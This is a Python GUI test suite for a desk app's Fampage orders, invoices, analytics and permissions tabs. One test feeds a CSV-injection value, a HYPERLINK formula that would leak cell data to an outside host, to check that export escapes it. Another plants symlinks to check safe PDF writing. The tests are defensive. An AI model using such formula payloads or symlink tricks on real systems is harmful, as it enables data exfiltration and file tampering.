"""The Fampage Orders tab against the fake panel on 127.0.0.1, driven with mouse clicks and keys."""

from __future__ import annotations

import csv
from pathlib import Path
from decimal import Decimal

import pytest
from PySide6.QtCore import Qt

from giftdesk.fampage.client import FampageTimeout, FampageUnavailable
from giftdesk.fampage.events import BalanceChanged
from giftdesk.gui.fampage.orders_tab import FampageOrdersTab
from tests.gui.conftest import idle
from tests.gui.test_new_order_dialog import click_service
from tests.support.fake_fampage import API_KEY, FakeFampage


@pytest.fixture
def fake():
    with FakeFampage() as server:
        yield server


@pytest.fixture
def fctx(desk, fake, ctx):
    desk.settings.update({"fampage.base_url": fake.url, "invoice.multiplier": "8"})
    desk.settings.set_fampage_api_key(API_KEY)
    desk.fampage.backoff = 0.01
    desk.companies.create("Acme")
    desk.companies.create("Beta", invoice_multiplier="10")
    return ctx


def open_tab(qtbot, ctx) -> FampageOrdersTab:
    tab = FampageOrdersTab(ctx)
    qtbot.addWidget(tab)
    tab.resize(1280, 760)
    tab.show()
    qtbot.waitExposed(tab)
    qtbot.waitUntil(lambda: tab.configured is not None, timeout=5000)
    idle(qtbot, ctx, 10000)
    return tab


def click(qtbot, widget) -> None:
    assert widget.isEnabled(), widget.objectName()
    qtbot.mouseClick(widget, Qt.MouseButton.LeftButton)


def click_view(qtbot, tab, title: str) -> None:
    bar = tab.views.tabBar()
    index = [tab.views.tabText(i) for i in range(tab.views.count())].index(title)
    qtbot.mouseClick(bar, Qt.MouseButton.LeftButton, pos=bar.tabRect(index).center())
    assert tab.views.currentIndex() == index


def click_row(qtbot, table, key) -> None:
    row = table.source.row_of_key(key)
    assert row >= 0, f"no row {key}"
    rect = table.visualRect(table.model().index(row, 1))
    qtbot.mouseClick(table.viewport(), Qt.MouseButton.LeftButton, pos=rect.center())
    assert table.current_key() == key


def place_through_dialog(qtbot, tab, fake, answers) -> int:
    click(qtbot, tab.new_button)
    dialog = tab.dialog
    qtbot.waitUntil(lambda: dialog.loaded and dialog.balance is not None, timeout=10000)
    qtbot.keyClicks(dialog.search, "followers [real]")
    click_service(qtbot, dialog, 101)
    qtbot.keyClicks(dialog.link, "https://tiktok.com/@acme")
    qtbot.keyClicks(dialog.quantity, "1000")
    qtbot.waitUntil(lambda: dialog.figures["invoice"].text().startswith("₹7.20"), timeout=5000)
    answers.extend([True])  # "Place this order at Fampage now?"
    click(qtbot, dialog.ok_button)
    qtbot.waitUntil(lambda: len(fake.orders) == 1, timeout=10000)
    [provider_id] = fake.orders
    return provider_id


def test_place_sync_issue_cancel_with_credit_note_and_save_pdf(qtbot, fctx, desk, fake, answers, tmp_path):
    tab = open_tab(qtbot, fctx)
    assert tab.stack.currentIndex() == 1
    qtbot.waitUntil(lambda: tab.balance_label.text() == "₹5,000.00 INR", timeout=5000)
    assert not tab.balance_warning.isVisible()

    provider_id = place_through_dialog(qtbot, tab, fake, answers)
    table = tab.orders.table
    qtbot.waitUntil(lambda: table.row_count() == 1 and table.current_row() is not None, timeout=10000)
    order = table.current_row()
    assert order.provider_order_id == provider_id and order.state == "pending"
    assert table.model().index(0, 9).data() == "Pending"
    qtbot.waitUntil(lambda: tab.balance_label.text() == "₹4,999.10 INR", timeout=5000)  # refreshed after the order
    assert "1 order, 1 open" in tab.orders.stats.text()

    # Fampage moves it on; "Sync now" brings the status in through the live batch.
    fake.set_status(provider_id, "In progress", remains=400, start_count=0)
    click(qtbot, tab.sync_button)
    qtbot.waitUntil(lambda: table.row_for(order.id).state == "in_progress", timeout=10000)
    row = table.source.row_of_key(order.id)
    assert table.model().index(row, 9).data(Qt.ItemDataRole.ToolTipRole).startswith("Fampage says: In progress")
    assert table.model().index(row, 10).data() == "0" and table.model().index(row, 11).data() == "400"
    qtbot.waitUntil(lambda: tab.sync_label.text() != "Last sync: never", timeout=5000)

    # Issue the invoice from the invoices view.
    click_view(qtbot, tab, "Invoices")
    invoices = tab.invoices.table
    qtbot.waitUntil(lambda: invoices.row_count() == 1, timeout=5000)
    [draft] = invoices.rows
    click_row(qtbot, invoices, draft.id)
    click(qtbot, tab.invoices.issue_button)
    issuing = tab.invoices.dialog
    qtbot.waitUntil(lambda: issuing.ok_button.isEnabled(), timeout=5000)
    click(qtbot, issuing.ok_button)
    qtbot.waitUntil(lambda: (invoices.row_for(draft.id).number or "").startswith("INV-"), timeout=5000)
    number = invoices.row_for(draft.id).number

    # Cancel the order: confirmation, Fampage refunds 400 of 1000, a credit note is issued.
    click_view(qtbot, tab, "Orders")
    click_row(qtbot, table, order.id)
    answers.extend([True])
    click(qtbot, tab.orders.cancel_button)
    qtbot.waitUntil(lambda: tab.orders.last_outcome is not None, timeout=10000)
    assert "canceled: credit note CN-" in tab.orders.last_outcome and "₹2.88" in tab.orders.last_outcome
    qtbot.waitUntil(lambda: table.row_for(order.id).state == "canceled", timeout=5000)
    assert table.row_for(order.id).revenue == Decimal("4.32")  # 7.20 less the 2.88 credit note
    assert not answers

    # "Invoice" jumps to the order's invoice; its PDF is saved off the GUI thread.
    click_row(qtbot, table, order.id)
    click(qtbot, tab.orders.invoice_button)
    qtbot.waitUntil(lambda: tab.views.currentWidget() is tab.invoices and invoices.current_key() == draft.id,
                    timeout=5000)
    qtbot.waitUntil(lambda: invoices.row_count() == 2, timeout=5000)
    assert invoices.row_for(draft.id).credited == Decimal("2.88")
    target = tmp_path / "invoice.pdf"
    tab.invoices.ask_save_path = lambda *_a: str(target)
    click(qtbot, tab.invoices.save_button)
    qtbot.waitUntil(lambda: tab.invoices.last_file == str(target), timeout=10000)
    data = target.read_bytes()
    assert data.startswith(b"%PDF") and len(data) > 2000
    assert number in {r.number for r in desk.invoices.list()}


def test_filters_by_company_status_network_link_and_date(qtbot, fctx, desk, fake):
    acme, beta = desk.companies.list()
    desk.orders.create_manual(acme.id, "Followers", "https://tiktok.com/@acme", 1000, "0.90", network="TikTok",
                              status="Completed")
    desk.orders.create_manual(beta.id, "Likes", "https://instagram.com/p/beta", 100, "1.87", network="Instagram")
    desk.orders.create_manual(beta.id, "Views", "https://tiktok.com/@beta/video/2", 500, "2.00", network="TikTok")
    tab = open_tab(qtbot, fctx)
    view, table = tab.orders, tab.orders.table
    qtbot.waitUntil(lambda: table.row_count() == 3, timeout=5000)

    qtbot.keyClicks(view.link, "@beta")
    qtbot.waitUntil(lambda: table.row_count() == 1, timeout=5000)
    assert table.rows[0].service_name == "Views"
    view.link.clear()
    qtbot.waitUntil(lambda: table.row_count() == 3, timeout=5000)

    view.company.setFocus()
    # One letter: a combo box's type-ahead starts afresh when keys come further apart than the
    # keyboard input interval, which a loaded machine can stretch between "B" and "e".
    qtbot.keyClick(view.company, "B")
    assert view.company.currentText() == "Beta"
    qtbot.waitUntil(lambda: table.row_count() == 2, timeout=5000)
    view.network.setCurrentIndex(view.network.findData("Instagram"))
    qtbot.waitUntil(lambda: table.row_count() == 1, timeout=5000)
    assert table.rows[0].network == "Instagram"
    view.company.setCurrentIndex(0)
    view.network.setCurrentIndex(0)
    view.status.setCurrentIndex(view.status.findData("completed"))
    qtbot.waitUntil(lambda: table.row_count() == 1 and table.rows[0].company_name == "Acme", timeout=5000)
    view.status.setCurrentIndex(0)
    qtbot.waitUntil(lambda: table.row_count() == 3, timeout=5000)
    from PySide6.QtCore import QDate
    view.since.setDate(QDate.currentDate().addDays(1))  # nothing placed tomorrow
    qtbot.waitUntil(lambda: table.row_count() == 0, timeout=5000)
    assert "3 orders" in view.stats.text()  # the statistics line counts every order


def test_analytics_by_company_chart_and_csv(qtbot, fctx, desk, fake, tmp_path):
    acme, beta = desk.companies.list()
    desk.orders.create_manual(acme.id, "Followers", "https://tiktok.com/@acme", 1000, "0.90", network="TikTok")
    desk.orders.create_manual(beta.id, "Likes", "https://instagram.com/p/beta", 100, "2.00", network="Instagram")
    tab = open_tab(qtbot, fctx)
    click_view(qtbot, tab, "Analytics")
    view = tab.analytics
    table = view.tables["companies"]
    qtbot.waitUntil(lambda: table.row_count() == 2, timeout=5000)
    figures = {f.name: f for f in table.rows}
    assert figures["Beta"].totals.revenue == Decimal("20.00") and figures["Acme"].totals.profit == Decimal("6.30")
    assert set(view.chart.categories) == {"Acme", "Beta"}
    assert "2 orders" in view.total.text() and "profit ₹24.30" in view.total.text()

    target = tmp_path / "companies.csv"
    view.ask_save_path = lambda *_a: str(target)
    click(qtbot, view.export_button)
    qtbot.waitUntil(lambda: target.exists() and target.read_text().count("\n") == 3, timeout=5000)
    rows = list(csv.DictReader(target.read_text().splitlines()))
    assert {r["name"]: r["profit"] for r in rows} == {"Beta": "18.00", "Acme": "6.30"}

    view.set_view("target")
    qtbot.keyClicks(view.link, "https://www.tiktok.com/@acme/")
    qtbot.keyClick(view.link, Qt.Key.Key_Return)
    qtbot.waitUntil(lambda: view.tables["target"].row_count() == 1, timeout=5000)
    view.set_view("summary")
    qtbot.waitUntil(lambda: view.tables["summary"].row_count() > 0, timeout=5000)
    assert "status: pending" in {f"{r.group}: {r.name}" for r in view.tables["summary"].rows}


def test_analytics_export_writes_a_formula_name_as_text_and_a_loss_as_a_number(qtbot, fctx, desk, tmp_path):
    evil = desk.companies.create('=HYPERLINK("http://x/?"&A1,"click")', invoice_multiplier="0.5")
    desk.orders.create_manual(evil.id, "@SUM(A1)", "https://tiktok.com/@evil", 1000, "25", network="TikTok")
    tab = open_tab(qtbot, fctx)
    click_view(qtbot, tab, "Analytics")
    view = tab.analytics
    qtbot.waitUntil(lambda: view.tables["companies"].row_count() == 1, timeout=5000)
    target = tmp_path / "companies.csv"
    view.ask_save_path = lambda *_a: str(target)
    click(qtbot, view.export_button)
    qtbot.waitUntil(lambda: target.exists() and target.read_text().count("\n") == 2, timeout=5000)
    rows = {r["companyId"]: r for r in csv.DictReader(target.read_text(encoding="utf-8").splitlines())}
    assert rows[str(evil.id)]["name"] == "'" + evil.name
    assert rows[str(evil.id)]["profit"] == "-12.50"  # a loss stays a number a spreadsheet sums


def test_unconfirmed_order_stands_out_and_is_reconciled(qtbot, fctx, desk, fake, answers):
    acme = desk.companies.list()[0]
    desk.fampage.refresh_services()
    fake.fail_next("add", 504, "<html>Gateway Time-out</html>")
    with pytest.raises(FampageTimeout, match="unconfirmed"):
        desk.orders.place(acme.id, 101, "https://tiktok.com/@lost", 100)
    [order] = desk.orders.list()
    tab = open_tab(qtbot, fctx)
    table = tab.orders.table
    qtbot.waitUntil(lambda: table.row_count() == 1 and tab.orders.unconfirmed.isVisible(), timeout=5000)
    assert f"#{order.id}" in tab.orders.unconfirmed.text()
    assert table.model().index(0, 9).data(Qt.ItemDataRole.FontRole).bold()
    click_row(qtbot, table, order.id)
    assert tab.orders.reconcile_button.isEnabled() and not tab.orders.cancel_button.isEnabled()
    answers.extend(["", True])  # no Fampage id: "mark not placed?" yes
    click(qtbot, tab.orders.reconcile_button)
    qtbot.waitUntil(lambda: table.row_for(order.id).state == "not_placed", timeout=5000)
    assert not tab.orders.unconfirmed.isVisible() and not answers


def test_manual_status_edit_and_refill(qtbot, fctx, desk, fake):
    acme = desk.companies.list()[0]
    desk.fampage.refresh_services()
    placed, _ = desk.orders.place(acme.id, 101, "https://tiktok.com/@acme", 100)
    tab = open_tab(qtbot, fctx)
    table = tab.orders.table
    qtbot.waitUntil(lambda: table.row_count() == 1, timeout=5000)
    click_row(qtbot, table, placed.id)
    click(qtbot, tab.orders.status_button)
    dialog = tab.orders.dialog
    dialog.status.lineEdit().selectAll()
    qtbot.keyClicks(dialog.status.lineEdit(), "Completed")
    dialog.remains.selectAll()
    qtbot.keyClicks(dialog.remains, "0")
    click(qtbot, dialog.ok_button)
    qtbot.waitUntil(lambda: table.row_for(placed.id).state == "completed", timeout=5000)
    fake.set_status(placed.provider_order_id, "Completed", remains=0)
    click_row(qtbot, table, placed.id)
    click(qtbot, tab.orders.refill_button)
    qtbot.waitUntil(lambda: table.row_for(placed.id).refill_id is not None, timeout=5000)
    assert "Refill" in tab.orders.last_outcome
    click_row(qtbot, table, placed.id)
    click(qtbot, tab.orders.refill_status_button)
    qtbot.waitUntil(lambda: "Refill" in tab.orders.last_outcome and ":" in tab.orders.last_outcome
                    and table.row_for(placed.id).refill_status not in (None, ""), timeout=5000)


def test_companies_add_archive_and_show_archived(qtbot, fctx, desk, answers):
    tab = open_tab(qtbot, fctx)
    click_view(qtbot, tab, "Companies")
    view, table = tab.companies, tab.companies.table
    qtbot.waitUntil(lambda: table.row_count() == 2, timeout=5000)
    click(qtbot, view.add_button)
    dialog = view.dialog
    qtbot.keyClicks(dialog.edits["name"], "Gamma Media")
    qtbot.keyClicks(dialog.edits["email"], "not-an-email")
    click(qtbot, dialog.ok_button)
    qtbot.waitUntil(lambda: dialog.error.isVisible(), timeout=5000)
    assert "mail" in dialog.error.text().lower() and desk.companies.list(search="Gamma") == []
    dialog.edits["email"].selectAll()
    qtbot.keyClicks(dialog.edits["email"], "ops@gamma.in")
    click(qtbot, dialog.ok_button)
    qtbot.waitUntil(lambda: table.row_count() == 3 and table.current_row() is not None, timeout=5000)
    gamma = table.current_row()
    assert gamma.company.name == "Gamma Media" and gamma.totals.orders == 0

    answers.extend([True])
    click(qtbot, view.archive_button)
    qtbot.waitUntil(lambda: table.row_count() == 2, timeout=5000)
    assert desk.companies.get(gamma.id).archived
    click(qtbot, view.archived)
    qtbot.waitUntil(lambda: table.row_count() == 3, timeout=5000)
    click_row(qtbot, table, gamma.id)
    assert view.archive_button.text() == "Restore"


def test_invoice_pay_void_print_and_month_zip(qtbot, fctx, desk, answers, tmp_path):
    from PySide6.QtPrintSupport import QPrinter

    acme, beta = desk.companies.list()
    first = desk.orders.create_manual(acme.id, "Followers", "https://tiktok.com/@acme", 1000, "0.90")
    second = desk.orders.create_manual(beta.id, "Likes", "https://tiktok.com/@beta", 100, "2.00")
    one = desk.invoices.issue(desk.orders.invoice_of(first.id).id)
    two = desk.invoices.issue(desk.orders.invoice_of(second.id).id)
    tab = open_tab(qtbot, fctx)
    click_view(qtbot, tab, "Invoices")
    view, table = tab.invoices, tab.invoices.table
    qtbot.waitUntil(lambda: table.row_count() == 2, timeout=5000)
    click_row(qtbot, table, one.id)
    click(qtbot, view.pay_button)
    qtbot.waitUntil(lambda: table.row_for(one.id).status == "paid", timeout=5000)
    click_row(qtbot, table, one.id)
    assert not view.void_button.isEnabled()
    click_row(qtbot, table, two.id)
    answers.extend([True])
    click(qtbot, view.void_button)
    qtbot.waitUntil(lambda: table.row_for(two.id).status == "void", timeout=5000)

    printed = tmp_path / "printed.pdf"

    def pdf_printer():
        printer = QPrinter(QPrinter.PrinterMode.ScreenResolution)
        printer.setOutputFormat(QPrinter.OutputFormat.PdfFormat)
        printer.setOutputFileName(str(printed))
        return printer

    view.make_printer = pdf_printer
    click_row(qtbot, table, one.id)
    click(qtbot, view.print_button)
    qtbot.waitUntil(lambda: printed.exists() and printed.stat().st_size > 1000, timeout=10000)

    status = view.status
    status.setCurrentIndex(status.findData("paid"))
    qtbot.waitUntil(lambda: table.row_count() == 1, timeout=5000)

    archive = tmp_path / "month.zip"
    view.ask_save_path = lambda *_a: str(archive)
    month = one.issue_date.strftime("%Y-%m")
    answers.extend([month])
    click(qtbot, view.zip_button)
    qtbot.waitUntil(lambda: view.last_file == str(archive), timeout=10000)
    import zipfile
    assert sorted(zipfile.ZipFile(archive).namelist()) == sorted([f"{one.number}.pdf", f"{two.number}.pdf"])


def test_integration_log_filters(qtbot, fctx, desk, fake):
    desk.fampage.balance()
    fake.fail_next("balance", 500, "<html>oops</html>", times=4)
    with pytest.raises(FampageUnavailable):
        desk.fampage.balance()
    tab = open_tab(qtbot, fctx)
    click_view(qtbot, tab, "Integration log")
    view, table = tab.log, tab.log.table
    qtbot.waitUntil(lambda: table.row_count() >= 3, timeout=5000)
    click(qtbot, view.failed)
    qtbot.waitUntil(lambda: table.row_count() >= 1 and all(not r.ok for r in table.rows), timeout=5000)
    view.action.setCurrentIndex(view.action.findData("services"))
    qtbot.waitUntil(lambda: table.row_count() == 0, timeout=5000)
    assert all(API_KEY not in str(r.params) for r in desk.fampage.calls())


def test_empty_state_without_key_then_configured(qtbot, desk, ctx):
    tab = open_tab(qtbot, ctx)
    assert tab.configured is False and tab.stack.currentWidget() is tab.empty
    text = tab.findChild(type(tab.balance_label), "fampage-empty-text").text()
    assert "File → Settings" in text
    tab.grab().save("/tmp/fampage-empty.png")
    with FakeFampage() as fake:
        desk.settings.update({"fampage.base_url": fake.url})  # SettingsChanged: the tab looks again
        desk.settings.set_fampage_api_key(API_KEY)
        desk.settings.update({"fampage.request_style": "form"})
        qtbot.waitUntil(lambda: tab.configured is True and tab.stack.currentIndex() == 1, timeout=5000)
        qtbot.waitUntil(lambda: tab.balance_label.text() == "₹5,000.00 INR", timeout=5000)
        idle(qtbot, ctx)


def test_low_balance_warns_in_the_header_and_once_per_crossing(qtbot, fctx, desk, fake):
    desk.settings.update({"fampage.low_balance_threshold": "6000"})
    tab = open_tab(qtbot, fctx)
    messages = []
    tab.message.connect(messages.append)
    qtbot.waitUntil(lambda: tab.balance_warning.isVisible(), timeout=5000)
    assert "below ₹6,000.00" in tab.balance_warning.text()
    assert len(tab.notifier.shown) == 1  # the first read crossed it
    for amount, low in (("4000", True), ("3000", True), ("7000", False), ("2000", True)):
        desk.events.publish(BalanceChanged(Decimal(amount), "INR", low))
    qtbot.waitUntil(lambda: tab.balance_label.text() == "₹2,000.00 INR", timeout=5000)
    assert len(tab.notifier.shown) == 2 and "₹2,000.00" in tab.notifier.shown[-1]
    from PySide6.QtWidgets import QSystemTrayIcon
    if not QSystemTrayIcon.isSystemTrayAvailable():  # offscreen: the status bar says it
        assert any("Fampage balance is ₹2,000.00" in m for m in messages)


def test_viewer_sees_orders_but_cannot_change_them(qtbot, desk, fake, viewer_ctx):
    desk.settings.update({"fampage.base_url": fake.url})
    desk.settings.set_fampage_api_key(API_KEY)
    desk.fampage.backoff = 0.01
    acme = desk.companies.create("Acme")
    desk.fampage.ensure_catalogue()
    order, _ = desk.orders.place(acme.id, 101, "https://tiktok.com/@acme", 1000)
    fake.set_status(order.provider_order_id, "Completed", remains=0)
    desk.orders.sync([order.id])
    order = desk.orders.refill(order.id)
    open_orders = desk.orders.create_manual(acme.id, "Followers", "https://tiktok.com/@open", 1000, "0.90",
                                            provider_order_id=777)
    tab = open_tab(qtbot, viewer_ctx)
    table = tab.orders.table
    qtbot.waitUntil(lambda: table.row_count() == 2, timeout=5000)
    click_row(qtbot, table, order.id)
    asked = fake.action_counts()
    # "Sync now", "Sync" and "Refill status" write statuses (and credit notes): disabled, and the tooltip says why.
    mutating = (tab.sync_button, tab.orders.sync_button, tab.orders.refill_status_button, tab.orders.cancel_button,
                tab.orders.status_button, tab.orders.refill_button, tab.new_button)
    for button in mutating:
        assert not button.isEnabled(), button.objectName()
        assert "Viewers cannot" in button.toolTip(), button.objectName()
        qtbot.mouseClick(button, Qt.MouseButton.LeftButton)
    click_row(qtbot, table, open_orders.id)
    qtbot.mouseClick(tab.orders.sync_button, Qt.MouseButton.LeftButton)
    idle(qtbot, viewer_ctx)
    assert fake.action_counts() == asked  # nothing was asked of Fampage
    assert desk.orders.get(order.id) == order and desk.orders.get(open_orders.id) == open_orders
    assert tab.orders.invoice_button.isEnabled()  # reading stays open
    click_view(qtbot, tab, "Companies")
    assert not tab.companies.add_button.isEnabled()
    assert "Viewers cannot" in tab.companies.add_button.toolTip()


def test_statuses_from_a_background_sync_arrive_live_by_key(qtbot, fctx, desk, fake):
    import threading

    acme = desk.companies.list()[0]
    desk.fampage.refresh_services()
    placed = [desk.orders.place(acme.id, 101, f"https://tiktok.com/@acme{i}", 100)[0] for i in range(12)]
    tab = open_tab(qtbot, fctx)
    table = tab.orders.table
    qtbot.waitUntil(lambda: table.row_count() == 12, timeout=5000)
    click_row(qtbot, table, placed[3].id)
    reloads = []
    tab.orders.refresh = lambda: reloads.append(1)  # a full reload would hide how the rows came in
    for order in placed:
        fake.set_status(order.provider_order_id, "Completed", remains=0, start_count=50)
    worker = threading.Thread(target=desk.orders.sync_open_orders)  # as the runtime's scheduler does
    worker.start()
    worker.join(10)
    qtbot.waitUntil(lambda: all(table.row_for(o.id).state == "completed" for o in placed), timeout=10000)
    assert reloads == [] and table.current_key() == placed[3].id  # upserted by key, selection kept
    assert "12 orders, 0 open" in tab.orders.stats.text()


def test_order_actions_follow_the_selected_orders_state(qtbot, fctx, desk, fake, answers):
    """Refill is off on an open order and says why; Cancel on an open and a completed order cancels
    the open one and reports the other as skipped."""
    acme = desk.companies.list()[0]
    desk.fampage.refresh_services()
    done, _ = desk.orders.place(acme.id, 101, "https://tiktok.com/@done", 100)
    fake.set_status(done.provider_order_id, "Completed", remains=0)
    desk.orders.sync([done.id])
    running, _ = desk.orders.place(acme.id, 101, "https://tiktok.com/@running", 100)
    tab = open_tab(qtbot, fctx)
    table = tab.orders.table
    qtbot.waitUntil(lambda: table.row_count() == 2, timeout=5000)
    click_row(qtbot, table, running.id)
    orders = tab.orders
    assert not orders.refill_button.isEnabled() and orders.cancel_button.isEnabled()
    assert orders.refill_button.toolTip() == (f"Cannot refill it: order #{running.id} is pending; Fampage refills "
                                              "completed or partial orders")
    click_row(qtbot, table, done.id)
    assert orders.refill_button.isEnabled() and not orders.cancel_button.isEnabled()
    assert orders.cancel_button.toolTip() == f"Cannot cancel it: order #{done.id} is completed, no longer open"

    rect = table.visualRect(table.model().index(table.source.row_of_key(running.id), 1))
    qtbot.mouseClick(table.viewport(), Qt.MouseButton.LeftButton, Qt.KeyboardModifier.ControlModifier, rect.center())
    assert {r.id for r in table.selected_rows()} == {done.id, running.id}
    assert orders.cancel_button.isEnabled() and not orders.refill_button.isEnabled()
    assert f"1 of 2 selected; 1 skipped (#{done.id}: no longer open at Fampage)" in orders.cancel_button.toolTip()
    answers.append(True)
    click(qtbot, orders.cancel_button)
    qtbot.waitUntil(lambda: orders.last_outcome is not None and "skipped" in orders.last_outcome, timeout=10000)
    assert f"Order #{running.id} canceled" in orders.last_outcome
    assert f"1 skipped (#{done.id}: no longer open at Fampage)." in orders.last_outcome
    assert desk.orders.get(done.id).state == "completed"


def test_open_settings_from_the_empty_state_shows_the_fampage_page(qtbot, window):
    window.show_tab("Fampage Orders")
    tab = window.orders_tab
    qtbot.waitUntil(lambda: tab.configured is False)
    click(qtbot, tab.settings_button)
    dialog = window.dialog
    qtbot.waitUntil(lambda: dialog is not None and dialog.isVisible())
    assert dialog.tabs.tabText(dialog.tabs.currentIndex()) == "Fampage && invoices"
    qtbot.waitUntil(lambda: dialog.fampage_key.hasFocus())  # the cursor waits in the key field
    dialog.reject()


def test_analytics_chart_with_no_one_two_and_many_companies(qtbot, fctx, desk, fake):
    from PySide6.QtCore import QPointF
    from PySide6.QtWidgets import QToolTip

    from tests.gui.chart_support import hover_until

    acme, _beta = desk.companies.list()
    tab = open_tab(qtbot, fctx)
    click_view(qtbot, tab, "Analytics")
    view = tab.analytics
    chart = view.chart
    qtbot.waitUntil(lambda: view.loads >= 1, timeout=5000)
    assert chart.empty.isVisible() and not chart.chart.series()  # no bare axes
    assert chart.empty.text() == "No orders in these dates: orders placed between them fill this chart"

    desk.orders.create_manual(acme.id, "Followers", "https://tiktok.com/@acme", 1000, "0.90", network="TikTok")
    click(qtbot, view.refresh_button)
    qtbot.waitUntil(lambda: chart.categories == ["Acme"], timeout=5000)
    assert not chart.empty.isVisible()
    labels = list(chart.y_axis.categoriesLabels())
    assert labels == ["₹0", "₹2", "₹4", "₹6", "₹8"]  # the ₹7.20 revenue under the top, bars from 0
    revenue_bar = QPointF(-1 / 6, 3.6)  # the middle of the first of three bars in the one category
    hover_until(qtbot, chart.view, lambda: chart.view.mapFromScene(
        chart.chart.mapToPosition(revenue_bar, chart.chart.series()[0])), lambda tip: tip == "Acme · Revenue ₹7.20")
    assert QToolTip.isVisible()

    cheap = desk.companies.create("Cheap", invoice_multiplier="0.5")  # sold at a loss
    desk.orders.create_manual(cheap.id, "Likes", "https://instagram.com/p/cheap", 100, "250", network="Instagram")
    click(qtbot, view.refresh_button)
    qtbot.waitUntil(lambda: set(chart.categories) == {"Acme", "Cheap"}, timeout=5000)
    labels = list(chart.y_axis.categoriesLabels())
    assert chart.y_axis.min() < -125 and chart.y_axis.max() > 250 and "₹0" in labels
    assert labels[0].startswith("-₹") and all(label.count("₹") == 1 for label in labels)

    for i in range(8):
        company = desk.companies.create(f"Co {i}")
        desk.orders.create_manual(company.id, "Views", f"https://tiktok.com/@co{i}", 1000, str(1000 * (i + 1)),
                                  network="TikTok")
    click(qtbot, view.refresh_button)
    qtbot.waitUntil(lambda: len(chart.categories) == 10, timeout=5000)
    labels = list(chart.y_axis.categoriesLabels())
    assert chart.y_axis.max() > 64_000 and labels[-1].startswith("₹") and "," in labels[-1]  # ₹70,000
    assert len(labels) <= 8


def _issued_invoice(desk, company_name: str = "Acme"):
    company = next(c for c in desk.companies.list() if c.name == company_name)
    order = desk.orders.create_manual(company.id, "Followers", "https://tiktok.com/@acme", 1000, "0.90")
    return desk.invoices.issue(desk.orders.invoice_of(order.id).id)


def test_open_pdf_writes_an_owner_only_file_in_the_data_directory(qtbot, fctx, desk, tmp_path, monkeypatch):
    import os
    import stat
    import tempfile

    from PySide6.QtGui import QDesktopServices

    from giftdesk.gui.context import GuiContext
    from giftdesk.gui.fampage.invoices_view import InvoicesView
    from giftdesk.desk import Desk

    shared = tmp_path / "shared-tmp"
    shared.mkdir()
    elsewhere = tmp_path / "someone-elses"
    elsewhere.mkdir()
    (shared / "giftdesk-invoices").symlink_to(elsewhere)  # planted where the PDFs used to go
    monkeypatch.setattr(tempfile, "tempdir", str(shared))
    opened = []
    monkeypatch.setattr(QDesktopServices, "openUrl", lambda url: opened.append(url.toLocalFile()) or True)

    invoice = _issued_invoice(desk)
    tab, view = _invoice_selected(qtbot, fctx, invoice.id)
    click(qtbot, view.open_button)
    qtbot.waitUntil(lambda: len(opened) == 1, timeout=10000)
    path = opened[0]
    assert os.path.dirname(os.path.dirname(path)) == str(desk.paths.root)
    assert os.path.basename(path) == f"{invoice.number}.pdf"
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
    assert stat.S_IMODE(os.stat(os.path.dirname(path)).st_mode) == 0o700
    assert list(elsewhere.iterdir()) == []

    # A link in place of the file is replaced, not written through.
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me")
    os.unlink(path)
    os.symlink(victim, path)
    click(qtbot, view.open_button)
    qtbot.waitUntil(lambda: len(opened) == 2, timeout=10000)
    assert victim.read_text() == "keep me"
    assert not os.path.islink(path) and Path(path).read_bytes()[:4] == b"%PDF"
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
    assert [p.name for p in Path(path).parent.iterdir()] == [os.path.basename(path)]  # no temporary left behind

    # A second data directory numbers its own INV-…-000001: each keeps its own file.
    other = Desk.open(str(tmp_path / "other-data"))
    try:
        other.companies.create("Acme")
        other_invoice = _issued_invoice(other)
        assert other_invoice.number == invoice.number
        other_ctx = GuiContext.create(other)
        other_view = InvoicesView(other_ctx)
        qtbot.addWidget(other_view)
        other_path = other_view._temp_pdf(other_invoice)
        assert other_path != path and os.path.dirname(os.path.dirname(other_path)) == str(other.paths.root)
        assert Path(path).read_bytes()[:4] == b"%PDF" and os.path.getsize(path) > 1000
        other_ctx.close()
    finally:
        other.close()


def test_open_pdf_without_a_viewer_says_so_and_offers_save_as_and_the_path(qtbot, fctx, desk, answers, tmp_path,
                                                                            monkeypatch):
    from PySide6.QtGui import QDesktopServices, QGuiApplication

    asked = []
    monkeypatch.setattr(QDesktopServices, "openUrl", lambda url: asked.append(url.toLocalFile()) or False)
    invoice = _issued_invoice(desk)
    tab, view = _invoice_selected(qtbot, fctx, invoice.id)

    answers.extend(["Save as…"])
    target = tmp_path / "kept.pdf"
    view.ask_save_path = lambda *_a: str(target)
    click(qtbot, view.open_button)
    qtbot.waitUntil(lambda: view.last_file == str(target), timeout=10000)
    assert not answers and len(asked) == 1
    assert target.read_bytes() == Path(asked[0]).read_bytes() and target.read_bytes()[:4] == b"%PDF"

    answers.extend(["Copy path"])
    click(qtbot, view.open_button)
    qtbot.waitUntil(lambda: not answers and len(asked) == 2 and view.last_file == asked[1], timeout=10000)
    assert QGuiApplication.clipboard().text() == asked[1]


def _draft_selected(qtbot, fctx, desk):
    """A manual order's draft invoice, selected in the invoices view: (tab, its table, the draft row)."""
    acme = desk.companies.list()[0]
    order = desk.orders.create_manual(acme.id, "Followers", "https://tiktok.com/@acme", 1000, "0.90", network="TikTok")
    draft = desk.orders.invoice_of(order.id)
    tab, view = _invoice_selected(qtbot, fctx, draft.id)
    return tab, view.table, view.table.row_for(draft.id)


def _invoice_selected(qtbot, fctx, invoice_id: int):
    """The tab with the only invoice selected in its invoices view: (tab, the view)."""
    tab = open_tab(qtbot, fctx)
    click_view(qtbot, tab, "Invoices")
    view = tab.invoices
    qtbot.waitUntil(lambda: view.table.row_count() == 1, timeout=5000)
    click_row(qtbot, view.table, invoice_id)
    return tab, view


def _open_issue_dialog(qtbot, tab):
    click(qtbot, tab.invoices.issue_button)
    dialog = tab.invoices.dialog
    qtbot.waitUntil(lambda: dialog.ok_button.isEnabled(), timeout=5000)  # the number is known
    return dialog


def test_issue_asks_first_with_the_number_due_days_and_tax(qtbot, fctx, desk, fake):
    from datetime import timedelta

    from giftdesk.fampage.invoices import today

    tab, invoices, draft = _draft_selected(qtbot, fctx, desk)
    number = f"INV-{today().year}-000001"
    dialog = _open_issue_dialog(qtbot, tab)
    assert dialog.number.text() == number
    click(qtbot, dialog.buttons.button(dialog.buttons.StandardButton.Cancel))
    assert desk.invoices.get(draft.id).status == "draft"  # Cancel takes no number
    assert desk.invoices.number_to_take(draft.id) == number

